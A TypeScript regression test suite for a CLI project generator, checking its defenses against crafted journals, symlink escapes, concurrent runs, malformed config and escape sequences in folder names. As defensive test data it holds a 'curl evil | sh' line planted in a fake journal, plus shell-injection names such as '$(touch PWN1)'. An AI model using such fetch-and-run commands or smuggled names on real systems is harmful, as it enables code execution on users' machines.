/**
 * Regression tests for what a reviewer broke after the first round of
 * hardening (issue 15), each through the real bin: a crafted journal, files
 * already in the folder, two runs at once, malformed inputs that gave stack
 * traces, a cache folder that made the bin spin, terminal and shell escapes
 * in folder names, `--` before an argument, read-only files, and the same
 * command run twice.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { type JournalBody, journalText } from '../lib/journal.js';
import { CLI, listFiles, readTree } from './helpers/paths.js';
import { onlyOnPosix, onlyWithUserNamespaces } from './helpers/platform.js';

const BASE = ['--yes', '--author-name', 'Ada', '--skip-install', '--no-ci', '--no-docs'];
const GIT_ENV = { GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_DATE: '2026-01-01T00:00:00Z' };

interface Ran {
  status: number | null;
  stdout: string;
  stderr: string;
}

function runCli(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}, prefix: string[] = []): Ran {
  const [command, ...rest] = [...prefix, process.execPath, CLI, ...args];
  const result = spawnSync(command!, rest, {
    cwd,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, ...GIT_ENV, npm_command: '', ...env },
    timeout: 60_000,
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

function runCliAsync(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}): Promise<Ran> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], { cwd, stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, ...GIT_ENV, npm_command: '', ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

/** One `error:` message (a line, a list of files when it names several, and its hint), status 1, no stack trace. */
function assertUserError(ran: Ran, message: RegExp, lines = 3): void {
  assert.equal(ran.status, 1, `${ran.stdout}\n${ran.stderr}`);
  assert.match(ran.stderr, /^error: /m);
  assert.match(ran.stderr, message);
  assert.doesNotMatch(ran.stderr, /\n\s+at /, 'no stack trace');
  assert.ok(ran.stderr.trim().split('\n').length <= lines, `more than an error and its hint:\n${ran.stderr}`);
}

const config = (dir: string) => JSON.parse(fs.readFileSync(path.join(dir, '.yo-rc.json'), 'utf8'))['generator-bytewax-connector'];
const sha = (text: string): string => createHash('sha256').update(text).digest('hex');

describe('trust v2: what a reviewer broke', () => {
  let work: string;
  beforeEach(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'bytewax-trust-'));
  });
  afterEach(() => fs.rmSync(work, { recursive: true, force: true }));

  function project(extra: string[] = []): string {
    const made = runCli(['proj', ...BASE, '--partitioned', 'orders', ...extra], work);
    assert.equal(made.status, 0, made.stderr);
    return path.join(work, 'proj');
  }

  describe('1. a crafted journal never writes outside the project', () => {
    it('a signed-looking journal through a symbolic link is refused in one line; the outside file, folder and the project are left as they were', function () {
      onlyOnPosix(this);
      const dir = project();
      const victim = path.join(work, 'victim');
      fs.mkdirSync(path.join(victim, 'empty'), { recursive: true });
      fs.writeFileSync(path.join(victim, 'bashrc'), 'mine\n');
      fs.writeFileSync(path.join(victim, 'other'), 'keep me\n');
      fs.symlinkSync('../victim', path.join(dir, 'lnk'));
      // What the reviewer wrote: an update whose `after` matches the outside file, a create to delete, a folder to remove.
      const body: JournalBody = {
        version: 2,
        command: 'sink out',
        directories: ['lnk/empty'],
        entries: [
          { path: 'lnk/bashrc', action: 'update', after: sha('mine\n'), before: Buffer.from('curl evil | sh\n').toString('base64') },
          { path: 'lnk/other', action: 'create', after: sha('keep me\n') },
        ],
      };
      // The reviewer's journal as 0.1.0 wrote them (plain JSON), then unsigned, signed with another key, and signed with ours.
      const legacy = JSON.stringify({ ...body, version: 1 });
      for (const text of [legacy, journalText(body, undefined).replace(/"mac": "[0-9a-f]+"/, '"mac": null'), journalText(body, Buffer.alloc(32, 7)), journalText(body)]) {
        fs.writeFileSync(path.join(dir, '.generator-bytewax-connector.journal.json'), text);
        const before = readTree(dir);
        for (const args of [['sink', 'out', '--yes'], ['.', '--yes', '--skip-install']]) {
          const ran = runCli(args, dir);
          assertUserError(ran, /journal\.json is left from a run that was cut off, but .*, so it was not used\.\nLook at the project/);
          assert.deepEqual(readTree(dir), before);
          assert.deepEqual(readTree(victim), new Map([['bashrc', 'mine\n'], ['other', 'keep me\n']]));
          assert.ok(fs.existsSync(path.join(victim, 'empty')));
        }
      }
    });

    it('a journal that is not one ("path": 5, not JSON, a folder) stops in one line and is left for the user', () => {
      const dir = project();
      const file = path.join(dir, '.generator-bytewax-connector.journal.json');
      for (const text of ['{', JSON.stringify({ version: 1, command: 'x', directories: [], entries: [{ path: 5, action: 'create', after: 'x' }] })]) {
        fs.writeFileSync(file, text);
        assertUserError(runCli(['sink', 'out', '--yes'], dir), /but it is not a journal this version of the generator wrote, so it was not used/);
        assert.equal(fs.readFileSync(file, 'utf8'), text);
      }
      fs.rmSync(file);
      fs.mkdirSync(file);
      assertUserError(runCli(['sink', 'out', '--yes'], dir), /but it is not a regular file/);
    });
  });

  describe('2. files already in the folder are never taken', () => {
    it('a folder with files and no project: refused without a terminal, written with --force, and the first commit holds only generated files', () => {
      const dir = path.join(work, 'busy');
      fs.mkdirSync(path.join(dir, 'nested', '.git'), { recursive: true });
      fs.writeFileSync(path.join(dir, '.env.local'), 'API_KEY=xyz\n');
      fs.writeFileSync(path.join(dir, 'notes.txt'), 'mine\n');
      const refused = runCli(['.', ...BASE], dir);
      assertUserError(refused, /busy holds 3 file\(s\) or folder\(s\) already \(\.env\.local, nested, notes\.txt\) and is not a project of this generator; nothing was written\./);
      assert.deepEqual(listFiles(dir).sort(), ['.env.local', 'notes.txt']);
      const forced = runCli(['.', ...BASE.filter((flag) => flag !== '--skip-install'), '--skip-install', '--force', '--git'], dir);
      assert.equal(forced.status, 0, forced.stderr);
      const committed = spawnSync('git', ['ls-files'], { cwd: dir, encoding: 'utf8' }).stdout.split('\n').filter(Boolean);
      assert.ok(committed.includes('pyproject.toml') && committed.includes('.yo-rc.json'));
      for (const theirs of ['.env.local', 'notes.txt', 'nested']) assert.ok(!committed.some((file) => file.startsWith(theirs)), `${theirs} was committed`);
      assert.deepEqual(committed.sort(), listFiles(dir).filter((file) => !['.env.local', 'notes.txt'].includes(file)).sort());
    });

    it('never in the home folder or the root of the file system, even with --force', () => {
      const home = path.join(work, 'home');
      fs.mkdirSync(home);
      fs.writeFileSync(path.join(home, '.bashrc'), 'mine\n');
      for (const [cwd, args, what] of [[home, [], 'your home folder'], [home, ['--force'], 'your home folder'], ['/', ['--force'], 'the root of the file system']] as const) {
        assertUserError(runCli([...BASE, ...args], cwd, { HOME: home }), new RegExp(`is ${what}: a project needs a folder of its own; nothing was written\\.`));
      }
      // The bin's own code cache (~/.cache) aside, the home folder is as it was.
      assert.deepEqual(listFiles(home).filter((file) => !file.startsWith('.cache/')), ['.bashrc']);
      assert.ok(!fs.existsSync(path.join(home, '.git')));
    });
  });

  describe('3. two runs at once in one project', () => {
    it('two sub-generators started together both land: each waits for the other, .yo-rc.json lists both, every file is there', async () => {
      const dir = project();
      for (let trial = 0; trial < 3; trial++) {
        const [a, b] = await Promise.all([
          runCliAsync(['sink', `alpha${trial}`, '--yes'], dir),
          runCliAsync(['sink', `beta${trial}`, '--kind', 'partitioned', '--yes'], dir),
        ]);
        assert.equal(a.status, 0, a.stderr);
        assert.equal(b.status, 0, b.stderr);
      }
      const sinks = config(dir).sinks.map((s: { name: string }) => s.name).sort();
      assert.deepEqual(sinks, ['alpha0', 'alpha1', 'alpha2', 'beta0', 'beta1', 'beta2']);
      for (const name of sinks) assert.ok(fs.existsSync(path.join(dir, 'src/bytewax_proj', `${name}.py`)), name);
      const init = fs.readFileSync(path.join(dir, 'src/bytewax_proj/__init__.py'), 'utf8');
      for (const name of sinks) assert.match(init, new RegExp(`from \\.${name} import`));
      assert.deepEqual(fs.readdirSync(dir).filter((name) => name.startsWith('.generator-bytewax-connector.lock')), []);
    });

    it('a run that finds the project locked by a live process waits, then stops in one line naming it', () => {
      const dir = project();
      const holder = spawn('sleep', ['60']);
      try {
        const lock = { pid: holder.pid, host: os.hostname(), command: 'sink other', started: '2026-01-01T00:00:00Z' };
        fs.writeFileSync(path.join(dir, '.generator-bytewax-connector.lock'), JSON.stringify(lock));
        const before = readTree(dir);
        const ran = runCli(['sink', 'late', '--yes'], dir, { GENERATOR_BYTEWAX_CONNECTOR_LOCK_WAIT_MS: '300' });
        assertUserError(ran, new RegExp(`Another run of the generator is working on this project \\(process ${holder.pid} on .*"sink other".*\\); nothing was written\\.`));
        assert.deepEqual(readTree(dir), before);
      } finally {
        holder.kill();
      }
    });

    it('a lock left by a process that is gone is taken over', () => {
      const dir = project();
      const gone = spawnSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))'], { encoding: 'utf8' }).stdout;
      fs.writeFileSync(path.join(dir, '.generator-bytewax-connector.lock'), JSON.stringify({ pid: Number(gone), host: os.hostname(), command: 'x', started: 'y' }));
      const ran = runCli(['sink', 'after', '--yes'], dir, { GENERATOR_BYTEWAX_CONNECTOR_LOCK_WAIT_MS: '300' });
      assert.equal(ran.status, 0, ran.stderr);
      assert.deepEqual(fs.readdirSync(dir).filter((name) => name.startsWith('.generator-bytewax-connector.lock')), []);
    });
  });

  describe('4. malformed inputs end in one line', () => {
    it('.yo-rc.json that is not a JSON object of answers, for a slice and for the app', () => {
      const dir = project();
      for (const [text, message] of [
        ['{', /\.yo-rc\.json is not valid JSON/],
        ['[]', /\.yo-rc\.json holds a list, not the JSON object of answers/],
        ['null', /\.yo-rc\.json holds null/],
        ['{"generator-bytewax-connector": []}', /generator-bytewax-connector is a list, not an object/],
      ] as const) {
        fs.writeFileSync(path.join(dir, '.yo-rc.json'), text);
        const before = readTree(dir);
        assertUserError(runCli(['sink', 'out', '--yes'], dir), message);
        assertUserError(runCli(['proj', ...BASE], work), message);
        assert.deepEqual(readTree(dir), before);
      }
    });

    it('a malformed ~/.yo-rc-global.json is never read', () => {
      const home = path.join(work, 'home');
      fs.mkdirSync(home);
      fs.writeFileSync(path.join(home, '.yo-rc-global.json'), '{');
      const ran = runCli(['proj', ...BASE], work, { HOME: home });
      assert.equal(ran.status, 0, ran.stderr);
    });

    it('an unreadable README or .yo-rc.json (as a user without privileges)', function () {
      onlyWithUserNamespaces(this);
      const dir = project();
      fs.chmodSync(path.join(dir, 'README.md'), 0o000);
      assertUserError(runCli(['sink', 'out', '--yes'], dir, {}, ['unshare', '--user']), /Cannot read README\.md: permission denied \(EACCES\)\. Nothing was written\./);
      fs.chmodSync(path.join(dir, 'README.md'), 0o644);
      fs.chmodSync(path.join(dir, '.yo-rc.json'), 0o000);
      assertUserError(runCli(['sink', 'out', '--yes'], dir, {}, ['unshare', '--user']), /Cannot read \S*\.yo-rc\.json: permission denied \(EACCES\)\./);
      fs.chmodSync(path.join(dir, '.yo-rc.json'), 0o644);
    });
  });

  it('5. an unusable cache or state folder costs nothing: --version and a run exit at once', function () {
    onlyOnPosix(this);
    for (const base of ['/proc/nope', '/proc/self', '/dev/null', 'relative', path.join(work, 'missing', 'deeper')]) {
      const env = { XDG_CACHE_HOME: base, XDG_STATE_HOME: base, HOME: base };
      const version = runCli(['--version'], work, env);
      assert.equal(version.status, 0, `${base}: ${version.stderr}`);
      const dir = path.join(work, `p${listFiles(work).length}-${base.replace(/\W/g, '')}`);
      const made = runCli([dir, ...BASE], work, env);
      assert.equal(made.status, 0, `${base}: ${made.stderr}`);
    }
  });

  describe('6. folder names are shown safely and quoted for the shell', () => {
    it('a directory argument with terminal escapes is refused, shown escaped', () => {
      for (const name of ['x\u001b]0;pwned\u0007', 'y\u001b[31mred', 'z\u009bc1']) {
        const ran = runCli([name, ...BASE], work);
        assertUserError(ran, /The project directory ".*\\u\{(1b|9b)\}.*" contains a control or invisible character/);
        assert.doesNotMatch(ran.stderr, /[\u001b\u009b\u0007]/);
      }
      assert.deepEqual(fs.readdirSync(work), []);
    });

    it('"Next steps" paste safely into a shell: the cd works and runs nothing', function () {
      onlyOnPosix(this);
      for (const name of ['$(touch PWN1)', "x'y", 'a b', '`touch PWN2`', '-dash']) {
        const ran = runCli([...BASE, '--', name], work);
        assert.equal(ran.status, 0, ran.stderr);
        const cd = /^ {2}(cd .*)$/m.exec(ran.stderr)?.[1];
        assert.ok(cd, ran.stderr);
        const pasted = spawnSync('sh', ['-c', `${cd} && pwd`], { cwd: work, encoding: 'utf8' });
        assert.equal(pasted.status, 0, `${cd}: ${pasted.stderr}`);
        assert.equal(fs.realpathSync(pasted.stdout.trim()), fs.realpathSync(path.join(work, name)));
      }
      assert.ok(!fs.existsSync(path.join(work, 'PWN1')) && !fs.existsSync(path.join(work, 'PWN2')));
    });
  });

  it('7. `-- -foo` makes a project named -foo, never one in the current folder', () => {
    const ran = runCli([...BASE, '--', '-foo'], work);
    assert.equal(ran.status, 0, ran.stderr);
    assert.deepEqual(fs.readdirSync(work), ['-foo']);
    assert.equal(config(path.join(work, '-foo')).distName, 'bytewax-foo');
  });

  it('8. a read-only file is never replaced without a question: refused without a terminal, replaced (still read-only) with --force', () => {
    const dir = project();
    const pyproject = path.join(dir, 'pyproject.toml');
    const before = fs.readFileSync(pyproject, 'utf8');
    fs.chmodSync(pyproject, 0o444);
    const changed = ['proj', ...BASE, '--partitioned', 'orders', '--description', 'Reads orders.'];
    assertUserError(runCli(changed, work), /no terminal is attached to ask:\n {2}pyproject\.toml \(read-only\)\nNothing was written\./, 4);
    assert.equal(fs.readFileSync(pyproject, 'utf8'), before);
    const forced = runCli([...changed, '--force'], work);
    assert.equal(forced.status, 0, forced.stderr);
    assert.match(fs.readFileSync(pyproject, 'utf8'), /description = "Reads orders\."/);
    assert.equal(fs.statSync(pyproject).mode & 0o777, 0o444);
  });

  describe('what a second review broke', () => {
    it('a re-run never installs (a clone carries its uv.lock and .venv), nor does a new project in a folder that held one', () => {
      const dir = project(['--installer', 'pip']);
      const again = runCli(['proj', '--yes', '--author-name', 'Ada', '--no-ci', '--no-docs', '--partitioned', 'orders', '--installer', 'pip'], work);
      assert.equal(again.status, 0, again.stderr);
      assert.doesNotMatch(again.stderr, /Creating \.venv|Installing/);
      assert.ok(!fs.existsSync(path.join(dir, '.venv')));
      const held = path.join(work, 'held');
      fs.mkdirSync(held);
      fs.writeFileSync(path.join(held, 'uv.lock'), 'version = 1\n');
      const made = runCli(['.', '--yes', '--author-name', 'Ada', '--force', '--no-ci', '--no-docs', '--installer', 'pip', '--git'], held);
      assert.equal(made.status, 0, made.stderr);
      assert.match(made.stderr, /Not installing: the folder already held uv\.lock/);
      const committed = spawnSync('git', ['ls-files'], { cwd: held, encoding: 'utf8' }).stdout.split('\n');
      assert.ok(!committed.includes('uv.lock'), 'a uv.lock that was there before was committed');
    });

    it('files in the project are never read through links, nor when they are devices, FIFOs or huge', function () {
      onlyOnPosix(this);
      const dir = project();
      const secret = path.join(work, 'secret.txt');
      fs.writeFileSync(secret, 'SECRET_TOKEN=abc\n');
      const readme = path.join(dir, 'README.md');
      const rc = path.join(dir, '.yo-rc.json');
      const saved = { readme: fs.readFileSync(readme), rc: fs.readFileSync(rc) };
      const cases: Array<[string, () => void, RegExp]> = [
        ['.yo-rc.json to /dev/zero', () => { fs.rmSync(rc); fs.symlinkSync('/dev/zero', rc); }, /\.yo-rc\.json is a symbolic link/],
        ['.yo-rc.json to a file outside', () => { fs.rmSync(rc); fs.symlinkSync(secret, rc); }, /\.yo-rc\.json is a symbolic link/],
        ['.yo-rc.json a FIFO', () => { fs.rmSync(rc); spawnSync('mkfifo', [rc]); }, /\.yo-rc\.json is not a regular file/],
        ['README.md to /dev/zero', () => { fs.rmSync(readme); fs.symlinkSync('/dev/zero', readme); }, /README\.md is a symbolic link/],
        ['a huge README.md', () => { fs.writeFileSync(readme, Buffer.alloc(20 * 1024 * 1024, 0x61)); }, /README\.md is \d+ KiB, far more than any file this generator reads/],
      ];
      for (const [what, make, message] of cases) {
        make();
        const started = Date.now();
        const ran = runCli(['sink', 'out', '--yes'], dir);
        assertUserError(ran, message);
        assert.doesNotMatch(ran.stderr, /SECRET/, `${what}: printed what it read outside`);
        assert.ok(Date.now() - started < 30_000, `${what}: took ${Date.now() - started} ms`);
        for (const file of [readme, rc]) fs.rmSync(file, { force: true });
        fs.writeFileSync(readme, saved.readme);
        fs.writeFileSync(rc, saved.rc);
      }
    });

    it('.yo-rc.json nested past reason in another generator\'s keys is one line, not a stack overflow', () => {
      const dir = project();
      const rc = path.join(dir, '.yo-rc.json');
      const data = JSON.parse(fs.readFileSync(rc, 'utf8'));
      fs.writeFileSync(rc, JSON.stringify(data).replace(/^\{/, `{"generator-other": ${'['.repeat(6000)}${']'.repeat(6000)},`));
      assertUserError(runCli(['sink', 'zz', '--yes'], dir), /\.yo-rc\.json nests its values more than 64 levels deep/);
    });

    it('a cut-off run is undone with every mode as it was, and files it had not reached are not called changed', function () {
      onlyOnPosix(this);
      const args = ['proj', '--yes', '--author-name', 'Ada', '--skip-install', '--no-git', '--no-ci', '--no-docs'];
      assert.equal(runCli(args, work).status, 0);
      const nox = path.join(work, 'proj', 'noxfile.py');
      assert.equal(fs.statSync(nox).mode & 0o777, 0o755);
      const killed = runCli([...args.filter((a) => a !== '--no-docs'), '--docs'], work, { GENERATOR_BYTEWAX_CONNECTOR_CRASH_AFTER_WRITES: '5' });
      assert.equal(killed.status, null);
      const again = runCli(args, work);
      assert.equal(again.status, 0, again.stderr);
      assert.doesNotMatch(again.stderr, /Kept, because they changed since/);
      assert.equal(fs.statSync(nox).mode & 0o777, 0o755);
      // A generated script that lost its executable bits gets them back.
      fs.chmodSync(nox, 0o644);
      assert.equal(runCli(args, work).status, 0);
      assert.equal(fs.statSync(nox).mode & 0o777, 0o755);
    });

    it('the first commit holds every generated file, even ones a global ignore file names, and only those', () => {
      const dir = path.join(work, 'busy');
      fs.mkdirSync(dir);
      const excludes = path.join(work, 'excludes');
      fs.writeFileSync(excludes, 'LICENSE\n*.md\n');
      const config = path.join(work, 'gitconfig');
      fs.writeFileSync(config, `[core]\n\texcludesFile = ${excludes}\n`);
      // A file of the same contents the generator writes (an "identical" one) is its file too.
      const made = runCli(['.', '--yes', '--author-name', 'Ada', '--skip-install', '--git', '--no-ci', '--no-docs'], dir, { GIT_CONFIG_GLOBAL: config });
      assert.equal(made.status, 0, made.stderr);
      const committed = spawnSync('git', ['ls-files'], { cwd: dir, encoding: 'utf8' }).stdout.split('\n').filter(Boolean).sort();
      assert.deepEqual(committed, listFiles(dir).sort());
      assert.ok(committed.includes('LICENSE') && committed.includes('README.md'));
    });

    it('paths with terminal escapes are shown escaped in every message', function () {
      onlyOnPosix(this);
      const odd = path.join(work, 'x\u001b[31mRED\u001b]0;pwned\u0007');
      fs.mkdirSync(odd);
      const none = runCli(['sink', 'a', '--yes'], odd);
      assertUserError(none, /No generated project here/);
      assert.doesNotMatch(none.stderr, /[\u001b\u0007]/);
      const made = runCli(['proj', '--yes', '--author-name', 'Ada', '--skip-install', '--no-git', '--no-ci', '--no-docs'], odd);
      assert.equal(made.status, 0, made.stderr);
      assert.doesNotMatch(made.stderr, /[\u001b\u0007]/);
      const dir = path.join(odd, 'proj');
      fs.symlinkSync('\u001b[2J\u001b[31mfake: all good\u001b[0m', path.join(dir, 'examples', 'out.py'));
      const link = runCli(['sink', 'out', '--yes'], dir);
      assertUserError(link, /examples\/out\.py is a symbolic link \(to "\\u\{1b\}\[2J/);
      assert.doesNotMatch(link.stderr, /[\u001b\u0007]/);
    });

    it('a re-run that changes nothing in a project nobody may write succeeds', function () {
      onlyWithUserNamespaces(this);
      const dir = project();
      spawnSync('chmod', ['-R', 'a-w', dir]);
      try {
        const ran = runCli(['proj', ...BASE, '--partitioned', 'orders'], work, {}, ['unshare', '--user']);
        assert.equal(ran.status, 0, ran.stderr);
        assert.match(ran.stderr, /^Nothing to change in /m);
      } finally {
        spawnSync('chmod', ['-R', 'u+w', dir]);
      }
    });

    it('npx shows the package it ran from, so the commands it suggests run the same generator', () => {
      const ran = runCli(['proj', ...BASE], work, { npm_command: 'exec', npm_config_package: '/tmp/generator-bytewax-connector-0.2.0.tgz' });
      assert.equal(ran.status, 0, ran.stderr);
      assert.match(ran.stderr, /npx --package \/tmp\/generator-bytewax-connector-0\.2\.0\.tgz generator-bytewax-connector sink <name>/);
    });
  });

  it('--no-git starts no git process at all (and without it, git is asked)', function () {
    onlyOnPosix(this);
    const bin = path.join(work, 'bin');
    fs.mkdirSync(bin);
    const log = path.join(work, 'git-calls.log');
    const realGit = spawnSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).stdout.trim();
    fs.writeFileSync(path.join(bin, 'git'), `#!/bin/sh\necho "$*" >> '${log}'\nexec '${realGit}' "$@"\n`, { mode: 0o755 });
    const env = { PATH: `${bin}:${process.env['PATH']}` };
    const quiet = runCli(['quiet', '--yes', '--author-name', 'Ada', '--skip-install', '--no-git', '--ci', '--docs', '--partitioned', 'orders'], work, env);
    assert.equal(quiet.status, 0, quiet.stderr);
    assert.ok(!fs.existsSync(log), `git ran: ${fs.existsSync(log) ? fs.readFileSync(log, 'utf8') : ''}`);
    const asked = runCli(['asked', '--yes', '--author-name', 'Ada', '--skip-install', '--ci'], work, env);
    assert.equal(asked.status, 0, asked.stderr);
    assert.match(fs.readFileSync(log, 'utf8'), / config --get user\.email$/m);
  });

  it('the same app command run again changes nothing and exits 0', () => {
    const args = ['proj', ...BASE, '--partitioned', 'orders', '--dynamic', 'ticks', '--client', 'async', '--sink', 'out'];
    assert.equal(runCli(args, work).status, 0);
    const before = readTree(path.join(work, 'proj'));
    for (const again of [args, args.filter((arg) => arg !== '--client' && arg !== 'async')]) {
      const ran = runCli(again, work);
      assert.equal(ran.status, 0, ran.stderr);
      assert.match(ran.stderr, /^Nothing to change in bytewax-proj in proj/m);
      assert.doesNotMatch(ran.stderr, /^ {2}(create|update) /m);
      assert.deepEqual(readTree(path.join(work, 'proj')), before);
    }
    assertUserError(runCli([...args.slice(0, -6), '--dynamic', 'ticks', '--client', 'sync'], work), /--dynamic "ticks" is already used by the dynamic source "ticks"/);
  });
});
